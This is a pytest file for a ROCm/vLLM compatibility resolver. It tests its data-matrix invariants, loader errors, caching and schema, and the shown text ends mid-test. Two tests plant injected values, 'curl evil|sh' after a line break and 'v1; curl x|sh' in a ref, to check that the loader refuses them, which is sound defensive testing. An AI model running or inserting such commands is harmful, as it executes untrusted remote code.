"""Data invariants of matrix/*.toml and how the loader reports broken files."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from packaging.version import Version

from resolver.data import matrix
from resolver.data.model import COMPONENTS
from resolver.util.errors import MatrixError, UnsafeValueError
from resolver.util.safety import is_safe

from .conftest import LIVE_MATRIX
from .helpers import copy_matrix

M = matrix.load_dir(LIVE_MATRIX)  # the shipped data, not the frozen test copy


def test_every_record_names_its_source() -> None:
    records = [*M.rocm, *M.os, *M.drivers, *M.gfx, *M.vllm, *M.wheels, *M.images, *M.examples]
    assert records
    for rec in records:
        assert rec.provenance.source.strip(), rec


@pytest.mark.parametrize("m", [M, matrix.load()], ids=["shipped", "frozen"])
def test_a_wheels_releases_are_the_known_releases_its_range_holds(m: matrix.Matrix) -> None:
    """The check asks ``rel.version in wheel.releases`` instead of evaluating the range: the
    loader's answer must be the range's own, for every variant and release."""
    from packaging.specifiers import SpecifierSet

    assert any(w.releases for w in m.wheels)
    for w in m.wheels:
        want = [r.version for r in m.vllm if w.vllm and SpecifierSet(w.vllm).contains(r.version)]
        assert list(w.releases) == want, w.name


def test_rocm_numbering_jump_is_ordered_by_version_not_text() -> None:
    versions = {str(r.version) for r in M.rocm}
    assert {"7.2.4", "7.13.0", "7.14.0", "10.0.0"} <= versions
    assert Version("7.13.0") > Version("7.2.4")
    streams = {str(r.version): r.stream for r in M.rocm}
    assert streams["7.2.4"] == "legacy"
    assert streams["7.13.0"] == "therock-preview"
    assert streams["7.14.0"] == "therock"


def test_rocm_gfx_sets_follow_amds_matrix() -> None:
    by = {str(r.version): set(r.gfx) for r in M.rocm}
    assert "gfx950" not in by["6.4.3"] and "gfx950" in by["7.0.0"]
    assert "gfx1201" not in by["6.4.0"] and "gfx1201" in by["6.4.1"]
    assert by["6.0.0"] == {"gfx908", "gfx90a", "gfx942", "gfx1030", "gfx1100"}


def test_driver_table_windows() -> None:
    assert M.driver("6.1") is not None and M.driver("6.1").user_space == (
        "5.7",
        "6.0",
        "6.1",
        "6.2",
        "6.3",
        "6.4",
    )
    d3030 = M.driver("30.30")
    assert d3030 is not None and d3030.runs(Version("7.2.3")) and d3030.runs(Version("6.3.1"))
    assert not d3030.runs(Version("6.2.4"))


def test_feature_gates_per_arch() -> None:
    g = {t.name: t.features for t in M.gfx}
    assert g["gfx942"].fp8 and g["gfx942"].fp8_format == "fnuz"
    assert g["gfx950"].fp8_format == "ocp" and g["gfx950"].mx
    assert not g["gfx90a"].fp8 and g["gfx90a"].aiter == "none"
    assert g["gfx942"].aiter == "full" and g["gfx1201"].aiter == "triton-only"


def test_each_releases_gates_agree_with_the_hardware() -> None:
    """The gates read from each sdist against the GPUs' hardware facts: vLLM picks FNUZ exactly on
    the FNUZ hardware, native MX kernels only where MX units are, its FP8 GEMM only on FP8 units.
    A release that disagrees is either a data error or news worth a look."""
    hw = {t.name: t.features for t in M.gfx}
    for caps in M.capabilities:
        if caps.fp8 is not None and caps.fp8_fnuz is not None:
            for gfx in caps.fp8:
                if hw[gfx].fp8:
                    assert (gfx in caps.fp8_fnuz) == (hw[gfx].fp8_format == "fnuz"), (
                        caps.version,
                        gfx,
                    )
        for gfx in caps.mx or ():
            assert hw[gfx].mx, (caps.version, gfx)
        for gfx in caps.fp8_scaled_mm or ():
            assert hw[gfx].fp8, (caps.version, gfx)
    newest = max(M.capabilities, key=lambda c: c.version)
    assert newest.fp8_fnuz is not None and newest.mx is not None
    assert newest.custom_allreduce is not None and newest.fp8_scaled_mm is not None


def test_pci_ids_are_lowercase_hex_and_unique_per_revision() -> None:
    seen: dict[tuple[str, str | None], str] = {}
    for t in M.gfx:
        for p in t.products:
            if p.pci_device_id is None:
                continue
            assert re.fullmatch(r"[0-9a-f]{4}", p.pci_device_id), p
            key = (p.pci_device_id, p.pci_revision)
            assert seen.setdefault(key, t.name) == t.name, f"{key} maps to two targets"


def test_vllm_v0_10_0_pins_are_upstreams() -> None:
    rel = next(v for v in M.vllm if v.version == Version("0.10.0"))
    assert rel.base_image == "rocm/dev-ubuntu-22.04:6.3.1-complete"
    pins = {p.component: (p.repo, p.ref) for p in rel.pins}
    assert pins["triton"] == ("triton-lang/triton", "e5be006")
    assert pins["pytorch"] == ("pytorch/pytorch", "295f2ed4")
    assert pins["flash_attention"] == ("Dao-AILab/flash-attention", "1a7f4dfa")
    assert pins["aiter"] == ("ROCm/aiter", "916bf3c")
    assert rel.arch == ("gfx90a", "gfx942", "gfx1100", "gfx1101", "gfx1200", "gfx1201")


def test_known_releases_have_pins_unknown_ones_have_none() -> None:
    for rel in M.vllm:
        if rel.known:
            assert rel.pins and rel.arch and rel.base_image, rel.version
            assert set(rel.arch) <= set(rel.cmake_arch) or not rel.cmake_arch, rel.version
        else:
            assert not rel.pins and rel.rocm is None, rel.version
    assert all(p.component in COMPONENTS for rel in M.vllm for p in rel.pins)


def test_every_ref_and_tag_is_safe() -> None:
    for rel in M.vllm:
        for p in rel.pins:
            assert is_safe("repo", p.repo) and is_safe("ref", p.ref)
    for img in M.images:
        assert is_safe("image_repo", img.repo) and is_safe("image_tag", img.tag)


def test_examples_cover_the_named_profiles() -> None:
    assert {e.name for e in M.examples} >= {
        "mi300x-8",
        "mi355x-8",
        "mi250x-4",
        "rx7900xtx",
        "r9700",
        "strix-halo",
    }


def test_official_images_are_vllms_own_with_serve_entrypoint() -> None:
    official = [i for i in M.images if i.official]
    assert official and all(i.entrypoint == "vllm-serve" for i in official)
    assert all(i.entrypoint == "shell" for i in M.images if not i.official)
    assert all(i.deprecated for i in M.images if i.repo == "rocm/vllm-dev")


def _series(v: Version) -> str:
    return f"{v.major}.{v.minor}"


def test_every_driver_window_names_rocm_series_the_data_knows() -> None:
    # rocm.toml starts at 6.0.0; AMD's older rows reach back to 5.x, which is outside the model.
    known = {_series(r.version) for r in M.rocm}
    first = min(r.version for r in M.rocm)
    for d in M.drivers:
        for s in d.user_space:
            if Version(s) >= Version(_series(first)):
                assert s in known, (
                    f"driver {d.series}: user_space {s} is not a ROCm series in rocm.toml"
                )
        if d.paired_rocm is not None:
            assert _series(Version(d.paired_rocm)) in d.user_space, (
                f"driver {d.series} does not run its own paired ROCm"
            )


def test_exact_driver_windows_hold_only_amds_table_rows() -> None:
    # A preview's own driver list lives in rocm.toml (kmd_at_release), never in an exact table row.
    previews = {_series(r.version) for r in M.rocm if r.stream == "therock-preview"}
    for d in M.drivers:
        if d.provenance.confidence == "exact":
            assert not previews & set(d.user_space), (
                f"driver {d.series}: exact row names previews {previews & set(d.user_space)}"
            )


def test_every_amd_image_names_a_rocm_release_of_its_own_stream() -> None:
    for img in M.images:
        if img.rocm is None:
            continue
        rel = M.rocm_release(img.rocm)
        assert rel is not None, f"{img.repo}:{img.tag}: ROCm {img.rocm} is not in rocm.toml"
        assert img.stream == rel.stream, (
            f"{img.repo}:{img.tag}: stream {img.stream} but {rel.label} is {rel.stream}"
        )


def test_amd_vllm_tags_are_the_ones_amd_lists() -> None:
    tags = {i.tag for i in M.images if i.repo == "rocm/vllm"}
    # AMD's history page once mislabelled this image: the tag that exists ends _20251103.
    assert "rocm7.0.0_vllm_0.11.1_20251024" not in tags
    assert "rocm7.0.0_vllm_0.11.1_20251103" in tags
    assert {
        "rocm7.14.1_cdna_ubuntu24.04_py3.14_pytorch_2.11_vllm_0.23.0",
        "rocm7.14.1_rdna_ubuntu24.04_py3.14_pytorch_2.11_vllm_0.23.0",
        "rocm10.0.0_ubuntu24.04_py3.14_pytorch_2.12.0_vllm_0.27.0",
    } <= tags


def test_arch_lists_read_from_family_names_are_not_exact() -> None:
    # AMD publishes no arch list for rocm/vllm images; a list derived from a family name is
    # inferred.
    for img in M.images:
        if img.repo == "rocm/vllm" and img.arch:
            assert img.provenance.confidence != "exact", f"{img.tag}: arch list claims exact"


def test_per_gpu_os_limits_name_only_os_the_release_lists() -> None:
    for r in M.rocm:
        for restr in r.os_restrictions:
            assert set(restr.os) <= set(r.os), (
                f"{r.label}: {restr.note[:40]} names OS outside the release's list"
            )
            assert set(restr.gfx) <= set(r.gfx) or not r.gfx, (
                f"{r.label}: restriction for a gfx the release does not list"
            )


def test_sles_service_packs_keep_amds_glibc() -> None:
    sp5, sles15 = M.os_release("sles-15.5"), M.os_release("sles-15")
    assert sp5 is not None and sp5.glibc == Version("2.31")
    assert sles15 is not None and sles15.glibc == Version("2.38")


def test_rocm_dates_are_iso_days() -> None:
    for r in M.rocm:
        if r.date is not None:
            assert re.fullmatch(r"20\d\d-[01]\d-[0-3]\d", r.date), r.label


def test_cmake_accepting_gfx906_does_not_make_it_supported() -> None:
    g906 = M.gfx_target("gfx906")
    assert g906 is not None and g906.vllm_status == "unsupported"
    assert any("gfx906" in v.cmake_arch for v in M.vllm), (
        "the premise of this test: CMake accepts gfx906"
    )
    shipped = [
        *(a for v in M.vllm for a in v.arch),
        *(a for i in M.images for a in i.arch),
        *(a for w in M.wheels for a in w.arch),
    ]
    assert "gfx906" not in shipped
    # The verdict cites why (Triton, AMD's deprecation, the maintainers' pointer), not a
    # comment-only PR.
    assert "triton" in g906.provenance.source.lower() and "22458" in g906.provenance.source


# --- broken data: every error names the file, the record and the field ----------------------


def _break(tmp_path: Path, file: str, old: str, new: str) -> Path:
    d = copy_matrix(tmp_path)
    text = (d / file).read_text()
    assert old in text
    (d / file).write_text(text.replace(old, new, 1))
    return d


@pytest.mark.parametrize(
    ("file", "old", "new", "expected"),
    [
        (
            "vllm.toml",
            'rocm = "6.3.1"',
            'rocm = "six"',
            r"vllm\.toml: release\[\d+\] \(0\.7\.0\): field 'rocm' 'six' is not a version",
        ),
        (
            "images.toml",
            'arch = ["gfx942"]',
            'arch = ["gfx9999"]',
            r"images\.toml: image .*: field 'arch' names unknown gfx target 'gfx9999'",
        ),
        (
            "images.toml",
            'rocm = "6.4.1"',
            'rocm = "6.4.9"',
            r"field 'rocm' names ROCm 6\.4\.9, which rocm\.toml does not know",
        ),
        (
            "rocm.toml",
            'stream = "legacy"',
            'stream = "beta"',
            r"rocm\.toml: release\[0\] \(6\.0\.0\): field 'stream' is 'beta'",
        ),
        (
            "drivers.toml",
            'series = "30.30"',
            'series = "30.30.3"',
            r"drivers\.toml: .*'30\.30\.3' is not a MAJOR\.MINOR series",
        ),
        (
            "gfx.toml",
            'aiter = "full"',
            'aiter = "yes"',
            r"gfx\.toml: gfx\[0\] \(gfx950\)\.features: field 'aiter'",
        ),
        (
            "wheels.toml",
            'vllm = ">=0.14.0,<=0.18.0"',
            'vllm = "fourteen"',
            r"wheels\.toml: variant\[0\] \(rocm700\): field 'vllm'",
        ),
        (
            "nodes.toml",
            "gpus = 8",
            "gpus = 0",
            r"nodes\.toml: example\[0\] \(mi300x-8\): field 'gpus' must be a whole number",
        ),
        (
            "os.toml",
            'id = "ubuntu-26.04"',
            "id = 2604",
            r"os\.toml: os\[0\] \(Ubuntu 26\.04\): field 'id' must be a string",
        ),
    ],
)
def test_broken_file_errors_name_file_record_field(
    tmp_path: Path, file: str, old: str, new: str, expected: str
) -> None:
    d = _break(tmp_path, file, old, new)
    with pytest.raises(MatrixError, match=expected) as info:
        matrix.load_dir(d)
    assert info.value.hint and "\n" not in str(info.value)


def test_line_breaks_in_data_strings_are_refused(tmp_path: Path) -> None:
    d = copy_matrix(tmp_path)
    text = (d / "vllm.toml").read_text()
    (d / "vllm.toml").write_text(
        text.replace(
            'source = "vllm-project/vllm@v0.10.0',
            'source = "x\\nRUN curl evil|sh vllm-project/vllm@v0.10.0',
            1,
        )
    )
    with pytest.raises(
        MatrixError,
        match=r"vllm\.toml: release\[\d+\] \(0\.10\.0\): field 'source' contains a line break",
    ):
        matrix.load_dir(d)


def test_unreadable_data_files_are_matrix_errors(tmp_path: Path) -> None:
    d = copy_matrix(tmp_path)
    (d / "gfx.toml").unlink()
    (d / "gfx.toml").mkdir()
    with pytest.raises(MatrixError, match=r"gfx\.toml: cannot read it"):
        matrix.load_dir(d)
    d2 = copy_matrix(tmp_path / "b")
    (d2 / "vllm.toml").write_bytes(b"\xff\xfe\x00garbage")
    with pytest.raises(MatrixError, match=r"vllm\.toml: not valid TOML"):
        matrix.load_dir(d2)


def test_an_emptied_file_is_refused(tmp_path: Path) -> None:
    d = copy_matrix(tmp_path)
    (d / "images.toml").write_text("# nothing here\n")
    with pytest.raises(MatrixError, match=r"images\.toml: no records"):
        matrix.load_dir(d)


def test_invalid_toml_is_a_matrix_error(tmp_path: Path) -> None:
    d = copy_matrix(tmp_path)
    (d / "gfx.toml").write_text("[[gfx]\nname = ")
    with pytest.raises(MatrixError, match=r"gfx\.toml: not valid TOML"):
        matrix.load_dir(d)


def test_missing_file_is_a_matrix_error(tmp_path: Path) -> None:
    d = copy_matrix(tmp_path)
    (d / "wheels.toml").unlink()
    with pytest.raises(MatrixError, match=r"wheels\.toml: data file not found"):
        matrix.load_dir(d)


def test_hostile_ref_is_refused_at_load(tmp_path: Path) -> None:
    d = _break(tmp_path, "vllm.toml", 'ref = "916bf3c"', 'ref = "v1; curl x|sh"')
    with pytest.raises(
        UnsafeValueError, match=r"pins\.aiter\.ref.*'v1; curl x\|sh' is not an acceptable ref"
    ):
        matrix.load_dir(d)


def test_duplicate_records_are_refused(tmp_path: Path) -> None:
    d = copy_matrix(tmp_path)
    text = (d / "nodes.toml").read_text()
    first = text[
        text.index("[[example]]") : text.index("[[example]]", text.index("[[example]]") + 1)
    ]
    (d / "nodes.toml").write_text(text + "\n" + first)
    with pytest.raises(MatrixError, match="duplicate example mi300x-8"):
        matrix.load_dir(d)


# --- the compiled matrix kept between runs -----------------------------------------------------


@pytest.mark.parametrize(
    ("file", "old", "new"),
    [
        ("wheels.toml", 'python = ["3.12"]', "python = []"),
        ("drivers.toml", "user_space = [", "user_space = [] #"),
    ],
)
def test_a_list_the_solver_names_the_first_of_is_never_empty(
    tmp_path: Path, file: str, old: str, new: str
) -> None:
    """A wheel with no Python, a driver with no user-space window: refused at load with the field
    named (the solver quotes the first item; an empty list was an internal error)."""
    d = copy_matrix(tmp_path)
    text = (d / file).read_text()
    assert old in text
    (d / file).write_text(text.replace(old, new, 1))
    with pytest.raises(MatrixError, match="is empty; give at least one"):
        matrix.load_dir(d)


def test_settled_files_are_known_by_their_stat(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Once every file is older than the settling time, its stat names the content key: the next
    start reads no data file's content; an edit (a new ctime) hashes the content again."""
    d = copy_matrix(tmp_path)
    monkeypatch.setenv("ROCM_VLLM_MATRIX_DIR", str(d))
    monkeypatch.setattr(matrix, "_SETTLED_NS", 0)  # the copies are fresh: settle them at once
    matrix.reload()
    first = matrix.load()
    from resolver.data import resources

    assert len(list((resources.cache_dir() / "matrix").glob("*.stat"))) == 1
    matrix.reload()

    def no_hashing(*_args: object, **_kw: object) -> None:
        raise AssertionError("the content was hashed again")

    with monkeypatch.context() as mp:
        mp.setattr(matrix, "_content_key", no_hashing)
        assert matrix.load() == first
    text = (d / "nodes.toml").read_text().replace("8x AMD Instinct MI300X", "Eight MI300X", 1)
    (d / "nodes.toml").write_text(text)
    matrix.reload()
    assert matrix.load().example("mi300x-8").description.startswith("Eight MI300X")  # type: ignore[union-attr]


def test_files_edited_a_moment_ago_are_not_known_by_their_stat(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file written within the settling time could be written again in the same timestamp
    tick with the same size: no stat index is kept for it, so its content is hashed each start."""
    d = copy_matrix(tmp_path)
    monkeypatch.setenv("ROCM_VLLM_MATRIX_DIR", str(d))
    matrix.reload()
    matrix.load()
    from resolver.data import resources

    assert not list((resources.cache_dir() / "matrix").glob("*.stat"))


def test_compiled_matrix_is_reused_and_invalidated(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    d = copy_matrix(tmp_path)
    monkeypatch.setenv("ROCM_VLLM_MATRIX_DIR", str(d))
    matrix.reload()
    first = matrix.load()
    from resolver.data import resources

    entries = list((resources.cache_dir() / "matrix").glob("*.msgpack"))
    assert len(entries) == 1
    matrix.reload()

    def no_parsing(*_args: object, **_kw: object) -> None:
        raise AssertionError("the TOML was parsed again")

    with monkeypatch.context() as mp:
        mp.setattr(matrix.bounded, "load_toml", no_parsing)
        assert matrix.load() == first  # read back from the compiled file
    # An edit makes a new entry with the new facts; a corrupt entry is ignored, not trusted.
    text = (
        (d / "nodes.toml")
        .read_text()
        .replace('description = "8x AMD Instinct MI300X', 'description = "Eight MI300X', 1)
    )
    (d / "nodes.toml").write_text(text)
    matrix.reload()
    assert matrix.load().example("mi300x-8").description.startswith("Eight MI300X")  # type: ignore[union-attr]
    for entry in (resources.cache_dir() / "matrix").glob("*.msgpack"):
        entry.write_bytes(b"not msgpack")
    matrix.reload()
    assert matrix.load().example("mi300x-8").description.startswith("Eight MI300X")  # type: ignore[union-attr]
    matrix.reload()


def _installed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An installed wheel's layout: the shipped data as ``resolver/_data/matrix`` with the
    compiled matrix its build hook (hatch_build.py) writes beside it; no ROCM_VLLM_MATRIX_DIR."""
    import shutil

    from resolver.data import resources

    data = tmp_path / "_data"
    shutil.copytree(LIVE_MATRIX, data / "matrix")
    (data / resources.SHIPPED_COMPILED).write_bytes(matrix.compile_shipped(data / "matrix"))
    monkeypatch.setattr(resources, "_INSTALLED_DATA", data)
    monkeypatch.delenv("ROCM_VLLM_MATRIX_DIR")
    assert resources.matrix_dir() == data / "matrix"
    matrix.reload()
    return data


def _no_parsing(*_args: object, **_kw: object) -> None:
    raise AssertionError("the TOML was parsed")


def test_a_first_run_of_an_installed_wheel_parses_no_toml(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 40: with empty cache and data dirs (a fresh CI container) the installed tool reads
    the records its wheel ships, the same records a fresh compile of matrix/ gives, and writes
    nothing to the user's dirs (no cache entry, no seal key)."""
    from resolver.data import overlay, resources

    _installed(tmp_path, monkeypatch)
    with monkeypatch.context() as mp:
        mp.setattr(matrix.bounded, "load_toml", _no_parsing)
        assert matrix.load() == M
    assert not resources.cache_dir().exists() and not overlay.data_dir().exists()
    matrix.reload()


def test_the_shipped_compiled_matrix_is_only_for_the_files_it_was_built_from(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An edited installed data file, an overlay or a damaged shipped file each go through the
    loader (the edit, the overlay's record are seen); the shipped file is never taken for data it
    was not built from."""
    from resolver.data import overlay

    data = _installed(tmp_path, monkeypatch)
    nodes = data / "matrix" / "nodes.toml"
    text = nodes.read_text()
    nodes.write_text(text.replace("8x AMD Instinct MI300X", "Eight MI300X", 1))
    assert matrix.load().example("mi300x-8").description.startswith("Eight MI300X")  # type: ignore[union-attr]
    nodes.write_text(text)
    matrix.reload()
    assert matrix.load() == M
    # An overlay (even one that changes nothing) is laid over the TOML by the loader.
    overlay.data_dir().mkdir(parents=True, exist_ok=True)
    overlay.overlay_path().write_text('{"format": 1, "files": {}}')
    parsed: list[object] = []
    with monkeypatch.context() as mp:
        real = matrix.bounded.load_toml
        mp.setattr(matrix.bounded, "load_toml", lambda *a: parsed.append(a) or real(*a))
        matrix.reload()
        assert matrix.load() == M
    assert parsed
    overlay.overlay_path().unlink()
    from resolver.data import resources

    shipped = data / resources.SHIPPED_COMPILED
    key = matrix.shipped_key(data / "matrix")
    assert key is not None
    for damaged in (b"0" * 32 + b"\nnot msgpack", key.encode() + b"\nnot msgpack", b""):
        shipped.write_bytes(damaged)
        matrix.reload()
        assert matrix.load() == M
    matrix.reload()


def test_deferred_tables_are_decoded_on_first_read_and_only_then(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 40: the compiled matrix holds the vendor and model tables (CUDA, NVIDIA GPUs and
    driver rules, the ISA list, model registries) and each release's capabilities encoded until a
    command reads them: an AMD check without --model decodes none of the tables and one release's
    capabilities (its plan's); each reads back equal to the TOML's records; and a replace naming
    a deferred table is refused, not silently dropped."""
    import msgspec

    from resolver.cli import main
    from resolver.data.model import DEFERRED_TABLES, ReleaseCapabilities

    _installed(tmp_path, monkeypatch)
    decoded: list[object] = []
    real = matrix._decode_table
    monkeypatch.setattr(
        matrix,
        "_decode_table",
        lambda *a: decoded.append(a[0]) or real(*a),  # type: ignore[func-returns-value]
    )
    monkeypatch.setattr(
        "sys.argv",
        ["rocm-vllm", "check", "--gfx", "gfx942", "--gpus", "8", "--driver", "30.30.3", "--json"],
    )
    with pytest.raises(SystemExit) as ended:
        main()
    assert ended.value.code == 0
    assert decoded == [ReleaseCapabilities]
    m = matrix.load()
    for name in DEFERRED_TABLES:
        assert getattr(m, name) == getattr(M, name) != (), name
    assert len(decoded) == 1 + len(DEFERRED_TABLES)
    assert m.capabilities == M.capabilities
    assert m == M
    with pytest.raises(TypeError):
        msgspec.structs.replace(m, cuda=())  # type: ignore[call-arg]
    assert m.with_tables(cuda=()).cuda == () and m.with_tables(cuda=()).vllm == m.vllm
    assert m.with_tables() == m
    matrix.reload()


def test_a_deferred_table_that_does_not_decode_is_a_data_error() -> None:
    """Its bytes passed the seal, so this is a defect of the tool: one data error (exit 3) with
    a hint, never a traceback from msgspec."""
    import functools

    from resolver.data.model import CudaRelease, Deferred

    _, dec = matrix._codec_hooks()
    broken = Deferred.encoded(
        b"\x91\xc0", functools.partial(matrix._decode_table, tuple[CudaRelease, ...], dec)
    )
    with pytest.raises(MatrixError, match="does not decode") as raised:
        broken.get()
    assert raised.value.exit_code == 3 and raised.value.hint


def test_the_shipped_key_names_the_content_not_the_place(tmp_path: Path) -> None:
    """The wheel is compiled before it is installed: its key is the same in any directory, and
    any data file's edit changes it."""
    import shutil

    a, b = tmp_path / "a", tmp_path / "b"
    shutil.copytree(LIVE_MATRIX, a)
    shutil.copytree(LIVE_MATRIX, b)
    assert matrix.shipped_key(a) == matrix.shipped_key(b) == matrix.shipped_key(LIVE_MATRIX)
    (b / "channels.toml").write_text((b / "channels.toml").read_text() + "\n")
    assert matrix.shipped_key(a) != matrix.shipped_key(b)


def test_the_compiled_matrix_key_covers_every_data_file() -> None:
    """resources.MATRIX_FILES keys the compiled-matrix cache; a data file missing from it would be
    served stale after an edit."""
    from resolver.data import resources

    shipped = {p.name for p in resources.matrix_dir().glob("*.toml")}
    assert shipped == set(resources.MATRIX_FILES)


def test_driver_windows_are_sorted_by_version() -> None:
    """issue 11, item 15: "7.11" prints before "10.0" (the frozen 30.20 row lists 7.11 last)."""
    for d in matrix.load().drivers:
        assert list(d.user_space) == sorted(d.user_space, key=Version), d.series
    from .helpers import run_cli

    shown = run_cli("matrix", "show", "drivers").stdout
    row = next(line for line in shown.splitlines() if line.startswith("30.20.x"))
    assert row.index("7.11") < row.index("10.0")


def test_shipped_data_has_sourced_apu_floors_and_module_pairs() -> None:
    live = matrix.load_dir(LIVE_MATRIX)
    strix = next(g for g in live.gfx if g.name == "gfx1151")
    floors = {f.os: f.min_kernel for f in strix.kernel_floors}
    assert floors == {"ubuntu-24.04": "6.17", "ubuntu-26.04": "7.0"}
    assert all("os-support.yaml" in f.provenance.source for f in strix.kernel_floors)
    assert "strixhalo" in strix.unified_memory_source
    paired = live.driver_for_module("6.19.14")
    assert (
        paired is not None
        and paired.series == "31.40"
        and "gpu-operator" in paired.module_versions_source
    )
    # The others are read from AMD's package versions: recorded, and marked inferred.
    pairs = {m: d.series for d in live.drivers for m in d.module_versions}
    assert pairs == {
        "6.8.5": "6.2",
        "6.10.5": "6.3",
        "6.12.12": "6.4",
        "6.14.14": "30.10",
        "6.16.6": "30.20",
        "6.16.13": "30.30",
        "6.19.4": "31.30",
        "6.19.14": "31.40",
    }
    assert all(
        d.module_versions_confidence == "inferred" and d.module_versions_source
        for d in live.drivers
        if d.module_versions and d.series != "31.40"
    )
    assert live.driver_for_module("6.18.3") is None  # AMD names no release for it


def test_a_module_version_under_two_series_is_refused(tmp_path: Path) -> None:
    """The probe reads a module version as one series; listed twice, the reading is a guess."""
    import shutil

    data = tmp_path / "live"
    shutil.copytree(LIVE_MATRIX, data)
    text = (data / "drivers.toml").read_text()
    text = text.replace('module_versions = ["6.16.6"]', 'module_versions = ["6.16.13"]')
    (data / "drivers.toml").write_text(text)
    with pytest.raises(MatrixError, match=r"duplicate module version 6\.16\.13"):
        matrix.load_dir(data)


# --- the schema: unknown keys are refused --------------------------------------------------------


def test_schema_doc_is_generated_from_the_model() -> None:
    from resolver.data import schema

    doc = json.loads((LIVE_MATRIX.parent / "docs" / "matrix.schema.json").read_text())
    assert doc == schema.json_schema(), (
        "regenerate: python -m resolver.data.schema > docs/matrix.schema.json"
    )


@pytest.mark.parametrize(
    "directory", [LIVE_MATRIX, LIVE_MATRIX.parent / "tests" / "data" / "matrix"]
)
def test_shipped_files_validate_against_the_schema(directory: Path) -> None:
    import tomllib

    import jsonschema

    from resolver.data import schema

    doc = {f: tomllib.loads((directory / f).read_text()) for f in schema.FILES}
    jsonschema.validate(doc, schema.json_schema())


@pytest.mark.parametrize(
    ("file", "old", "new", "message"),
    [
        (
            "gfx.toml",
            "vllm_status = ",
            "vlm_status = ",
            "unknown field 'vlm_status' (did you mean 'vllm_status'?)",
        ),
        (
            "gfx.toml",
            "fp8_format = ",
            "fp8_formt = ",
            "unknown field 'features.fp8_formt' (did you mean 'features.fp8_format'?)",
        ),
        ("vllm.toml", "variant = ", "varient = ", "unknown field 'stack.varient'"),
        ("images.toml", "entrypoint = ", "entry_point = ", "unknown field 'entry_point'"),
    ],
)
def test_a_typo_in_a_field_name_is_refused_with_its_place(
    tmp_path: Path, file: str, old: str, new: str, message: str
) -> None:
    import shutil

    d = tmp_path / "live"
    shutil.copytree(LIVE_MATRIX, d)
    path = d / file
    path.write_text(path.read_text().replace(old, new, 1))
    with pytest.raises(MatrixError, match=re.escape(message)) as info:
        matrix.load_dir(d)
    assert info.value.exit_code == 3 and info.value.message.startswith(f"{file}: ")


def test_every_release_and_stack_names_its_own_source() -> None:
    """A stack's facts come from its own Dockerfiles: the record says where, not only its parent."""
    import tomllib

    doc = tomllib.loads((LIVE_MATRIX / "vllm.toml").read_text())
    for rel in doc["release"]:
        assert rel.get("source"), rel["version"]
        for stack in rel.get("stack", []):
            assert stack.get("source"), (rel["version"], stack.get("variant"))


def test_a_recommended_alternative_route_names_its_source(tmp_path: Path) -> None:
    """gfx.toml `alternative` is advice the tool gives users: a record without its source is
    refused (exit 3), like every other fact."""
    data = copy_matrix(tmp_path)
    gfx = data / "gfx.toml"
    text = gfx.read_text()
    start = text.index("\nalternative_source = ")
    gfx.write_text(text[:start] + text[text.index("\n", start + 1) :])
    with pytest.raises(MatrixError, match="alternative_source"):
        matrix.load_dir(data)


def test_a_field_the_docs_list_is_accepted_by_the_loader_and_the_schema(tmp_path: Path) -> None:
    """Issue 21: features.mxfp4_confidence is in docs/data-model.md and read by the loader, but
    the schema lacked it, so a file that followed the docs was refused."""
    import shutil

    data = tmp_path / "live"
    shutil.copytree(LIVE_MATRIX, data)
    path = data / "gfx.toml"
    text = path.read_text().replace(
        'mxfp4 = "emulated"\n', 'mxfp4 = "emulated"\nmxfp4_confidence = "inferred"\n', 1
    )
    path.write_text(text)
    loaded = matrix.load_dir(data)
    emulated = [g for g in loaded.gfx if g.features.mxfp4 == "emulated"]
    assert emulated[0].features.mxfp4_provenance.confidence == "inferred"


def test_one_record_per_commit_however_upstream_abbreviates_it() -> None:
    """issue 25: ROCm/triton is pinned as 669b31a in one release's files and 669b31ac in
    another's; the loaded data spells each commit once (the longest spelling in the repo)."""
    import re

    from .conftest import LIVE_MATRIX

    live = matrix.load_dir(LIVE_MATRIX)
    spellings: dict[str, set[str]] = {}
    for rel in live.vllm:
        for st in rel.stacks:
            for p in st.pins:
                if re.fullmatch(r"[0-9a-f]{7,40}", p.ref):
                    spellings.setdefault(p.repo, set()).add(p.ref)
    for repo, refs in spellings.items():
        assert not [(a, b) for a in refs for b in refs if a != b and b.startswith(a)], repo
    assert "669b31ac" in spellings["ROCm/triton"] and "669b31a" not in spellings["ROCm/triton"]


def test_an_image_from_a_repository_no_channel_lists_is_refused(tmp_path: Path) -> None:
    """Whether an image is vLLM's own is data (channels.toml), not a list of names in code: an
    image from an unlisted repository is refused at load, never guessed official or not."""
    d = _break(tmp_path, "channels.toml", 'repo = "rocm/vllm"\n', 'repo = "rocm/vllm-gone"\n')
    with pytest.raises(MatrixError, match=r"images\.toml: image rocm/vllm:.*channels\.toml"):
        matrix.load_dir(d)
    m = matrix.load_dir(LIVE_MATRIX)
    assert {i.repo for i in m.images if i.official} == {"vllm/vllm-openai-rocm"}


def test_a_checked_entry_is_known_by_its_stat_and_a_changed_one_is_checked_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Once a settled entry's seal has been checked, its sealed stat (ENTRY.seen) spares the next
    start the hashing; an entry edited in place after that (same size, mtime set back: only its
    ctime tells), replaced, or carrying a forged mark is checked again, and a bad seal is a miss."""
    import os

    from resolver.data import resources

    d = copy_matrix(tmp_path)
    monkeypatch.setenv("ROCM_VLLM_MATRIX_DIR", str(d))
    monkeypatch.setattr(matrix, "_SETTLED_NS", 0)
    matrix.reload()
    first = matrix.load()  # parsed, entry written
    (entry,) = (resources.cache_dir() / "matrix").glob("*.msgpack")
    mark = entry.with_name(entry.name + ".seen")
    assert not mark.exists()  # written by this run: not yet checked by a reader
    matrix.reload()
    assert matrix.load() == first  # seal checked, stat kept
    assert mark.is_file()
    hashed: list[int] = []
    real_seal = matrix._seal

    def counting(key: bytes, payload: bytes | memoryview) -> str:
        hashed.append(len(payload))
        return real_seal(key, payload)

    monkeypatch.setattr(matrix, "_seal", counting)
    matrix.reload()
    assert matrix.load() == first
